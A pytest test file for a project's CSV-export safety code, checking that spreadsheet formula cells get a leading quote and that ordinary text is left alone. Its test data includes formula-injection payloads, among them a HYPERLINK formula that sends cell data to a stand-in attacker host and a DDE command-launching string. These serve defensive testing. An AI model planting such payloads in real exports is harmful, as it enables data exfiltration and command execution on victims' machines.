"""Exported cells never run as formulas in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from timebank.imports.csv_safety import BOM, neutralise, unneutralise, write_csv


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+44 28 9000 0001",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_in_front(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    assert unneutralise("'" + cell) == cell


@pytest.mark.parametrize("cell", ["Joan Murphy", "1+1", "a=b", "", "'quoted", "O'Neill"])
def test_ordinary_text_is_left_alone(cell: str) -> None:
    assert neutralise(cell) == cell
    assert unneutralise(cell) == cell


def test_numbers_we_write_stay_numbers() -> None:
    assert neutralise(-90) == -90


def test_a_written_document_neutralises_every_text_cell() -> None:
    document = write_csv(["name", "balance"], [["=cmd|' /C calc'!A0", -90], [None, 15]])
    assert document.startswith(BOM)
    rows = list(csv.reader(io.StringIO(document.removeprefix(BOM))))
    assert rows == [["name", "balance"], ["'=cmd|' /C calc'!A0", "-90"], ["", "15"]]
